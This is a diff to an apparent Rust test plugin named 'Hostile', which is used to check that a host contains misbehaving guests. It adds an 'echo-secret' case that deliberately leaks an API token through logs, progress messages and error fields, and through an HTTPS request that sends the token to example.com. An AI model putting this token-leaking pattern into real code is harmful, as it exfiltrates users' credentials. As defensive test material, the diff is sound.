@@ -36,11 +36,15 @@ fn spin() -> u64 {
 }
 
 fn request(authority: &str, scheme: &Scheme) -> OutgoingRequest {
+    request_to(authority, scheme, "/")
+}
+
+fn request_to(authority: &str, scheme: &Scheme, path: &str) -> OutgoingRequest {
     let req = OutgoingRequest::new(Fields::new());
     let _ = req.set_method(&Method::Get);
     let _ = req.set_scheme(Some(scheme));
     let _ = req.set_authority(Some(authority));
-    let _ = req.set_path_with_query(Some("/"));
+    let _ = req.set_path_with_query(Some(path));
     req
 }
 
@@ -155,6 +159,22 @@ impl wit::Guest for Hostile {
                     host::log(host::Level::Info, &format!("line {i} {}", "x".repeat(8_000)));
                 }
                 Ok(connection(vec!["flooded".into()]))
+            }
+            "echo-secret" => {
+                // The token, echoed everywhere the host passes text on;
+                // its tail sits where a 4 KiB log line is cut.
+                let token = settings.api_token.as_str();
+                host::log(host::Level::Info, &format!("{}{token}", "x".repeat(4090)));
+                host::log(host::Level::Info, &format!("the token is {token}"));
+                host::progress(&format!("step {token}"), 1, None);
+                let _ = wasi::http::outgoing_handler::handle(
+                    request_to("example.com", &Scheme::Https, &format!("/{token}")),
+                    None,
+                );
+                Err(wit::Error::InvalidSetting(wit::SettingProblem {
+                    field: format!("field {token}"),
+                    message: format!("message {token}"),
+                }))
             }
             "huge-string" => Err(wit::Error::Other("A".repeat(64 << 20))),
             "kv-huge-key" => {
